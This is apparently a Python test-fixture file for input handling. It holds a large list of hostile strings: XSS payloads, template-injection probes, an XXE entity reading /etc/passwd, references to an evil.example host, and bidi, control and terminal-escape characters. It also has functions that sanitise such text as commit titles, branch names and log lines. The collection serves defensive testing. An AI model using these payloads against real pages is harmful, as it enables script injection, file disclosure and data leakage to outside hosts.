"""Hostile texts: what people write who would like a page to run it, and what such a text looks like once it is kept."""

from __future__ import annotations

import re
from typing import Final

TEXTS: Final = (
    # script elements
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(4)//",
    "<script type=module>alert(5)</script>",
    "<script\x0c>alert(6)</script\x0c>",
    "<script/x>alert(7)</script/x>",
    "<scr<script>ipt>alert(8)</scr</script>ipt>",
    "<<script>alert(9);//<</script>",
    "</script><script>alert(10)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(11)>">',
    # handlers
    "<img src=x onerror=alert(12)>",
    "<img src=x onerror='alert(13)'>",
    '<img src="x" onerror="alert(14)">',
    "<img/src=x/onerror=alert(15)>",
    "<img src=`x` onerror=alert(16)>",
    "<IMG SRC=x OnErRoR=alert(17)>",
    "<img src=x onerror=&#97;lert(18)>",
    "<img src=x\nonerror=alert(19)>",
    "<img src onerror=alert(20)//",
    "<body onload=alert(21)>",
    "<input autofocus onfocus=alert(22)>",
    "<select autofocus onfocus=alert(23)><option>x",
    "<textarea autofocus onfocus=alert(24)>",
    "<details open ontoggle=alert(25)>",
    "<video><source onerror=alert(26)></video>",
    "<audio src onerror=alert(27)>",
    "<marquee onstart=alert(28)>",
    "<div onpointerover=alert(29) style='position:fixed;inset:0'>x</div>",
    "<div style=animation-name:turn onanimationstart=alert(30)>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(31)>",
    "<xss contenteditable autofocus onfocus=alert(32)>",
    "<a onmouseover=alert(33)>x</a>",
    "<form><button formaction=javascript:alert(34)>x</button></form>",
    "<isindex action=javascript:alert(35) type=image>",
    # out of attributes
    '"><script>alert(36)</script>',
    "'><script>alert(37)</script>",
    '" onmouseover="alert(38)',
    "' onfocus='alert(39)' autofocus='",
    '" autofocus onfocus=alert(40) x="',
    "` onmouseover=alert(41) `",
    '"/><img src=x onerror=alert(42)>',
    "=\"' onload=alert(43) x=`",
    # out of elements
    "</title><script>alert(44)</script>",
    "</textarea><script>alert(45)</script>",
    "</style><script>alert(46)</script>",
    "</bdi></code></pre></main><script>alert(47)</script>",
    "</pre><img src=x onerror=alert(48)>",
    "</option></select><img src=x onerror=alert(49)>",
    "</noscript></noembed></template></xmp><script>alert(50)</script>",
    "<!--><script>alert(51)</script>-->",
    "--><script>alert(52)</script><!--",
    "--!><img src=x onerror=alert(53)>",
    "<!-- <img title='--><img src=x onerror=alert(54)>'>",
    "<![CDATA[<script>alert(55)</script>]]>",
    "]]><script>alert(56)</script>",
    "<?xml version='1.0'?><script>alert(57)</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<plaintext>",
    "<xmp><script>alert(60)</script></xmp>",
    "<template><script>alert(61)</script></template>",
    # other languages in HTML
    "<svg onload=alert(62)>",
    "<svg><script>alert(63)</script></svg>",
    "<svg><script href=data:,alert(64) /></svg>",
    "<svg><animate onbegin=alert(65) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(66)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(67) />#x'>",
    "<svg><foreignObject><img src=x onerror=alert(68)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(69)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(70)>",
    "<math href=javascript:alert(71)>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(72)></annotation-xml></math>",
    # addresses
    "javascript:alert(73)",
    "JaVaScRiPt:alert(74)",
    "java\tscript:alert(75)",
    "<a href=javascript:alert(76)>x</a>",
    "<a href='&#x6a;avascript:alert(77)'>x</a>",
    "<a href=' javascript:alert(78)'>x</a>",
    "<iframe src=javascript:alert(79)></iframe>",
    "<iframe srcdoc='<script>alert(80)</script>'></iframe>",
    "<object data=javascript:alert(81)></object>",
    "<embed src=data:text/html,<script>alert(82)</script>>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(84)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input type=submit>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg4Nyk8L3NjcmlwdD4=",
    "[x](javascript:alert(88))",
    "![x](https://evil.example/pixel.png)",
    "//evil.example/x",
    # styles
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=background:url(//evil.example/x)>x</p>",
    # templates and expressions
    "{{7*7}}",
    "{{ config.items() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%n%x {0.__class__} %(x)s",
    "constructor.constructor('alert(103)')()",
    # entities
    "&lt;script&gt;alert(104)&lt;/script&gt;",
    "&#60;script&#62;alert(105)&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&copy;&#0;&#x110000;&notanentity;",
    "&",
    "AT&T <3 \"quotes\" 'apostrophes' `ticks`",
    # directions, and letters that look like nothing
    "\u202egnp.exe\u202c",
    "\u2066\u202ereversed",
    "\u200f\u200e\u061cmarks",
    "zero\u200bwidth\u200d\ufeffjoiners",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0346\u033el\u0300g\u0301o",
    "\ufdfd\ufdfd\ufdfd",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea",
    "\uff1cscript\uff1ealert(117)\uff1c/script\uff1e",
    "\ufffe\uffff\U0010ffff",
    "\xa0\xad\u2028\u2029\x85lines",
    # control characters and terminals
    "nul\x00<script>alert(120)</script>",
    "<scr\x00ipt>alert(121)</scr\x00ipt>",
    "\x1b[31mred\x1b[0m <b>bold</b>",
    "\x1b]8;;javascript:alert(123)\x07link\x1b]8;;\x07",
    "\x1b]0;title\x07<img src=x onerror=alert(124)>",
    '\x1b[38;2;1;2;3m"><svg onload=alert(125)>',
    "\x9b31m<script>alert(126)</script>",
    "over\rwritten <script>alert(127)</script>",
    "back\b\b\b\bspace\x7f",
    "bell\x07 feed\x0b\x0c",
    "first line\nsecond <script>alert(130)</script>",
    # all at once
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(131) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(131)//>\\x3e",
    "'\"><svg/onload=alert(132)>{{7*7}}${7*7}<!--]]>-->",
    # long
    "<b>" * 60,
    "x" * 5_000,
    "\u0300" * 300,
    "<img src=x onerror=alert(136)>" * 200,
)
"""More than a hundred, of every kind that is known; each tells itself by a number where it would run."""

_CONTROL: Final = re.compile(r"[\x00-\x1f\x7f-\x9f]")


def title(text: str) -> str:
    """As the title of a commit: its first line without control characters, at most 200 letters."""
    return _CONTROL.sub("", text.strip().partition("\n")[0]).strip()[:200]


def name(text: str) -> str:
    """As who pushed: without control characters, at most 100 letters."""
    return _CONTROL.sub("", text).strip()[:100]


def branch(text: str) -> str:
    """As a branch's name: such ones have no control characters."""
    return _CONTROL.sub("", text)[:200].strip()


def reason(text: str) -> str:
    """As why somebody locks: one line of at most 200 letters, where a sign stands for a NUL."""
    return " ".join(text.split())[:200].strip().replace("\0", "\N{REPLACEMENT CHARACTER}")


def parsed(text: str) -> str:
    """As an HTML parser keeps it: every end of a line is a line feed, and there is no NUL."""
    return re.sub("\r\n?", "\n", text.replace("\0", ""))


def logged(line: str) -> str:
    """As a line of a log that is shown: what a terminal would show in the end, in the order in which it was written."""
    written = re.sub("\x1b\\[[0-?]*[ -/]*[@-~]|\x1b\\][^\x07\x1b]*\x07", "", line)
    last = next((part for part in reversed(written.split("\r")) if part), "")
    return re.sub("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]", "", last)
